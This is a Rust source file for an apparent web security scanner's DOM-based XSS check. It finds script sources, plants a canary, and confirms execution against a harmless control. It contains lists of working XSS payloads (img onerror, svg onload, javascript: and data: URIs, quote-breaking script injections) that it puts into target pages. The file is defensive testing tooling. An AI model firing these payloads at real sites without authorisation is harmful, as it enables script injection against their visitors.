//! DOM XSS: a script puts what the browser brings along where it becomes code.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use futures_util::FutureExt;
use futures_util::future::BoxFuture;
use regex::Regex;

use super::{scripts, seen_before};
use crate::checks::{About, Bench, Check, Entry};
use crate::http::{Request, encode};
use crate::point::{Place, Point, Put};
use crate::proof::{Control, Expect, Replay, Step};

/// See [`About`].
pub(super) struct DomXss;

static ABOUT: About = About {
    name: "dom-xss",
    qids: &[150_076],
    means: "A script of this page takes text from its address, its window's name or a message, and puts it into the page \
            as markup or code.",
    matters: "Whoever gets a visitor to open a prepared link runs scripts of their own as this site: they read what the \
              visitor sees and act in the visitor's name. The server never sees the attack.",
    remedy: "Write text with textContent, not innerHTML; never evaluate text; allow only http and https where a script \
             sets an address. Check the origin of messages. A strict Content-Security-Policy limits the damage.",
    technique: "A canary is put into each source while a browser watches the sinks; where it arrives, markup or code that \
                fits the sink is put in, and must run. The same text with its special letters harmless must not.",
    source: "CWE-79; OWASP: DOM-based XSS",
};

/// What the hooks in the page look for.
const CANARY: &str = "rdbtc4n4ry";
/// What a dialog says when our code runs.
const MARKER: &str = "rdbt76150";

/// Where the browser brings something along.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Source {
    /// All after the `#`.
    Fragment(String),
    /// The nth field of the query.
    Query(Point),
    /// A field of the query that the script asks for.
    NewQuery(String),
    /// The name of the window.
    Name,
    /// A message, as text or as a member of an object.
    Message(String),
}

impl Source {
    /// Puts a value there, beside what other sources have.
    fn put(&self, request: &mut Request, value: &str) {
        match self {
            Self::Query(point) => *request = request.with(point, Put::Text(value)),
            Self::NewQuery(name) => {
                let mut fields = request.query();
                fields.retain(|(have, _)| have != name);
                fields.push((name.clone(), value.to_owned()));
                request.set_query(&fields);
            }
            Self::Fragment(shape) => {
                let visit = request.visit.get_or_insert_default();
                let before = visit.fragment.take().map(|before| before + "&").unwrap_or_default();
                visit.fragment = Some(before + &shape.replace("{}", value));
            }
            Self::Name => request.visit.get_or_insert_default().window_name = Some(value.to_owned()),
            Self::Message(shape) => {
                request.visit.get_or_insert_default().message = Some(shape.replace("{}", value));
            }
        }
    }

    pub(super) fn name(&self) -> String {
        match self {
            Self::Fragment(shape) => format!("#{}", shape.replace("{}", "")),
            Self::Query(point) => point.name.clone(),
            Self::NewQuery(name) => name.clone(),
            Self::Name => "window.name".to_owned(),
            Self::Message(_) => "message".to_owned(),
        }
    }
}

/// Sources that one visit can bring along together: fields, the window's name and a message, or a shape of the fragment.
pub(super) fn bundles(sources: &[Source]) -> Vec<Vec<&Source>> {
    let (mut fields, mut named): (Vec<&Source>, Vec<&Source>) = Default::default();
    let mut others = Vec::new();
    for source in sources {
        match source {
            Source::Fragment(shape) if shape.contains('=') => named.push(source),
            Source::Fragment(_) => others.push(vec![source]),
            Source::Message(_) if fields.iter().any(|have| matches!(have, Source::Message(_))) => {
                others.push(vec![source]);
            }
            _ => fields.push(source),
        }
    }
    [fields, named].into_iter().filter(|bundle| !bundle.is_empty()).chain(others).collect()
}

/// A request that brings a value of its own along in each source.
pub(super) fn with_all(request: &Request, bundle: &[&Source], value: impl Fn(usize) -> String) -> Request {
    let mut request = request.clone();
    bundle.iter().enumerate().for_each(|(n, source)| source.put(&mut request, &value(n)));
    request
}

/// A sign for the nth source of a bundle: no sign is the beginning of another.
fn sign(n: usize) -> String {
    format!("z{n}z")
}

/// The sources that a page's scripts read.
pub(super) fn sources(entry: &Entry, text: &str) -> Vec<Source> {
    let mut all = Vec::new();
    let reads = |words: &[&str]| words.iter().any(|word| text.contains(word));
    let whole = reads(&[
        "location.href",
        "document.URL",
        "documentURI",
        "baseURI",
        "location.toString",
        "(location)",
        "+location",
    ]);
    if whole || reads(&["hash"]) {
        all.push(Source::Fragment("{}".to_owned()));
        let names = regex::Regex::new(r#"\.get\(\s*['"]([\w-]{1,30})['"]|['"]#?([\w-]{1,30})=['"]"#).ok();
        let names = names.iter().flat_map(|regex| regex.captures_iter(text).collect::<Vec<_>>());
        let names: BTreeSet<String> = names
            .filter_map(|found| found.iter().skip(1).flatten().next().map(|m| m.as_str().to_owned()))
            .collect();
        all.extend(names.into_iter().take(5).map(|name| Source::Fragment(format!("{name}={{}}"))));
        if reads(&["#!", "#/", "'/'", "\"/\""]) {
            all.push(Source::Fragment("/{}".to_owned()));
            all.push(Source::Fragment("!{}".to_owned()));
        }
    }
    if whole || reads(&["location.search", "URLSearchParams", "searchParams", "search"]) {
        let points =
            entry.request.points().into_iter().filter(|point| matches!(point.place, Place::Query(_)));
        all.extend(points.map(Source::Query));
        let regex = regex::Regex::new(r#"\.get(?:All)?\(\s*['"]([\w-]{1,30})['"]|[?&]([\w-]{1,30})=|['"]([\w-]{1,30})=['"]|([\w-]{2,30})=\((?:\[|\.|\?)|(?:param|query|q|arg)\w*\(\s*['"]([\w-]{1,30})['"]"#).ok();
        let names: BTreeSet<String> = regex
            .iter()
            .flat_map(|regex| regex.captures_iter(text).collect::<Vec<_>>())
            .filter_map(|found| found.iter().skip(1).flatten().next().map(|m| m.as_str().to_owned()))
            .collect();
        let known: BTreeSet<String> = entry.request.query().into_iter().map(|(name, _)| name).collect();
        all.extend(names.difference(&known).take(6).cloned().map(Source::NewQuery));
        if whole && all.is_empty() {
            all.push(Source::NewQuery("x".to_owned()));
        }
    }
    if reads(&["window.name", "self.name", "top.name"]) {
        all.push(Source::Name);
    }
    if reads(&["onmessage", "'message'", "\"message\""]) {
        all.push(Source::Message("{}".to_owned()));
        let members: BTreeSet<&str> = regex::Regex::new(r"data\.([a-zA-Z_]\w{0,30})")
            .iter()
            .flat_map(|regex| {
                regex.captures_iter(text).filter_map(|f| f.get(1)).map(|m| m.as_str()).collect::<Vec<_>>()
            })
            .collect();
        if reads(&["JSON.parse"]) && !members.is_empty() {
            let object: Vec<String> =
                members.iter().take(5).map(|name| format!("\"{name}\":\"{{}}\"")).collect();
            all.push(Source::Message(format!("{{{}}}", object.join(","))));
        }
    }
    all
}

// What is put in for each kind of sink; the first is the plainest. `{M}` is the marker.
const HTML: &[&str] = &[
    "<img src=x onerror=alert('{M}')>",
    "\"><img src=x onerror=alert('{M}')>",
    "'><img src=x onerror=alert('{M}')>",
    "<svg onload=alert('{M}')>",
    "</textarea></title></script><img src=x onerror=alert('{M}')>",
    "<script>alert('{M}')</script>",
    "<iframe srcdoc=\"<script>parent.alert('{M}')</script>\">",
    "%3Cimg src=x onerror=alert('{M}')%3E",
    "<img src=x onerror=alert`{M}`>",
];
const SCRIPT: &[&str] = &[
    "alert('{M}')",
    "');alert('{M}');//",
    "\");alert('{M}');//",
    "';alert('{M}');//",
    "\";alert('{M}');//",
    "'-alert('{M}')-'",
    "\"-alert('{M}')-\"",
    "1;alert('{M}')",
    ")}};alert('{M}');//",
    "\\');alert('{M}');//",
    "${alert('{M}')}",
];
const URL: &[&str] = &[
    "javascript:alert('{M}')",
    "javascript://%0aalert('{M}')",
    "data:text/html,<script>alert('{M}')</script>",
    "\tjavascript:alert('{M}')",
];

/// What is put in for sinks.
fn payloads(sinks: &BTreeSet<String>) -> Vec<&'static str> {
    let mut all = Vec::new();
    for (sink, list) in
        [("html", HTML), ("script", SCRIPT), ("url", URL), ("attribute", URL), ("attribute", SCRIPT)]
    {
        if sinks.contains(sink) {
            all.extend(list.iter().copied().filter(|payload| !all.contains(payload)).collect::<Vec<_>>());
        }
    }
    all
}

impl Check for DomXss {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn try_entry<'a>(&'a self, bench: &'a Bench<'a>, entry: &'a Entry) -> Option<BoxFuture<'a, ()>> {
        bench.opener?;
        let text = scripts(entry, bench.entries).filter(|text| !seen_before(entry, bench.entries, text))?;
        let sources = sources(entry, &text);
        (!sources.is_empty()).then(|| test(bench, entry, sources, text).boxed())
    }
}

/// Whether scripts have any place where text becomes markup or code.
fn has_sinks(text: &str) -> bool {
    let words = [
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "createContextualFragment",
        "srcdoc",
        "eval",
        "Function",
        "setTimeout",
        "setInterval",
        "setAttribute",
        ".html(",
        ".append(",
        ".src",
        ".href",
        "location",
    ];
    words.iter().any(|word| text.contains(word))
}

/// Whether scripts go to addresses that they make.
fn navigates(text: &str) -> bool {
    static GOES: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r"location\s*=[^=]|\.href\s*=[^=]|location\.(?:assign|replace)\s*\(").ok()
    });
    GOES.as_ref().is_some_and(|goes| goes.is_match(text))
}

/// What a visit told of the sinks that a text reached: the sink, and what arrived.
fn reached<'t>(told: &'t [String], what: &str) -> Vec<(&'t str, &'t str)> {
    let lines = told.iter().filter_map(|line| line.strip_prefix("sink:")?.split_once('\u{1}'));
    lines.filter(|(sink, value)| *sink != "text" && value.contains(what)).collect()
}

async fn test(bench: &Bench<'_>, entry: &Entry, sources: Vec<Source>, text: String) {
    let bundles = bundles(&sources);
    let mut proven: Vec<&Source> = Vec::new();
    for bundle in &bundles {
        let mut arrived = arrivals(bench, entry, bundle).await;
        if arrived.is_empty() && bundle.len() > 1 && has_sinks(&text) {
            // One of them may have kept the others from being read.
            for source in bundle {
                arrived.extend(arrivals(bench, entry, &[source]).await);
            }
        }
        for (source, sinks) in arrived {
            for payload in payloads_for(bench, entry, source, &sinks).await {
                if attack(bench, entry, source, payload).await {
                    proven.push(source);
                    break;
                }
            }
        }
    }
    if navigates(&text) {
        by_going(bench, entry, &bundles, &proven).await;
    }
}

/// The sources of a bundle whose text reaches a sink, and the sinks.
async fn arrivals<'s>(
    bench: &Bench<'_>,
    entry: &Entry,
    bundle: &[&'s Source],
) -> Vec<(&'s Source, BTreeSet<String>)> {
    let Some(opener) = bench.opener else { return Vec::new() };
    let value = |n| format!("{CANARY}{}", sign(n));
    let visit = with_all(&entry.request, bundle, value);
    let told = opener.open(&bench.session.dress(&visit), &["sinks"]).await;
    let sinks = |n| reached(&told, &value(n)).into_iter().map(|(sink, _)| sink.to_owned()).collect();
    let all = bundle.iter().enumerate().map(|(n, source)| (*source, sinks(n)));
    all.filter(|(_, sinks): &(_, BTreeSet<String>)| !sinks.is_empty()).collect()
}

/// The payloads that are worth a try: where signs of markup arrive as something else, those that need them are not.
async fn payloads_for(
    bench: &Bench<'_>,
    entry: &Entry,
    source: &Source,
    sinks: &BTreeSet<String>,
) -> Vec<&'static str> {
    let mut all = payloads(sinks);
    let Some(opener) = bench.opener else { return Vec::new() };
    if sinks.contains("html") {
        let visit = with_all(&entry.request, &[source], |_| format!("{CANARY}<z"));
        let told = opener.open(&bench.session.dress(&visit), &["sinks"]).await;
        let stays =
            reached(&told, CANARY).iter().any(|(sink, value)| *sink == "html" && value.contains("<z"));
        all.retain(|payload| stays || !payload.contains('<'));
    }
    all
}

/// Where a script goes to an address that a source gives, which no hook sees: payloads in all sources of a bundle at once.
async fn by_going(bench: &Bench<'_>, entry: &Entry, bundles: &[Vec<&Source>], proven: &[&Source]) {
    let Some(opener) = bench.opener else { return };
    for bundle in bundles {
        let bundle: Vec<&Source> = bundle.iter().copied().filter(|source| !proven.contains(source)).collect();
        for payload in URL.iter().copied().filter(|_| !bundle.is_empty()) {
            let marker = |n| format!("{MARKER}{}", sign(n));
            let visit = with_all(&entry.request, &bundle, |n| payload.replace("{M}", &marker(n)));
            let markers: Vec<String> = (0..bundle.len()).map(marker).collect();
            let markers: Vec<&str> = markers.iter().map(String::as_str).collect();
            let ran = opener.open(&bench.session.dress(&visit), &markers).await;
            let ours = bundle.iter().enumerate().filter(|(n, _)| ran.contains(&marker(*n)));
            let ours: Vec<&Source> = ours.map(|(_, source)| *source).collect();
            for source in &ours {
                attack(bench, entry, source, payload).await;
            }
            if !ours.is_empty() {
                break;
            }
        }
    }
}

/// Puts a payload into a source; true when it is proven to run.
async fn attack(bench: &Bench<'_>, entry: &Entry, source: &Source, payload: &str) -> bool {
    let Some(opener) = bench.opener else { return false };
    let payload = payload.replace("{M}", MARKER);
    let attack = with_all(&entry.request, &[source], |_| payload.clone());
    if !opener.open(&bench.session.dress(&attack), &[MARKER]).await.iter().any(|ran| ran == MARKER) {
        return false;
    }
    // The marker as plain text: it may be shown, but nothing runs.
    let harmless = payload.replace(|c: char| !c.is_alphanumeric() && c != ' ', "_");
    let control = with_all(&entry.request, &[source], |_| harmless.clone());
    let replay = Replay {
        steps: vec![Step::new(attack)],
        expect: Expect::Ran(MARKER.to_owned()),
        control: Control::Requests(vec![Step::new(control)]),
        rounds: 1,
    };
    let Ok(proof) = bench.prove(replay).await else { return false };
    let point = Point { place: Place::Query(0), name: source.name(), value: String::new() };
    let shown = format!("{}={}", source.name(), encode::percent(&payload));
    bench.report_at(150_076, entry, Some((&point, &shown)), proof);
    true
}

#[cfg(test)]
mod tests;
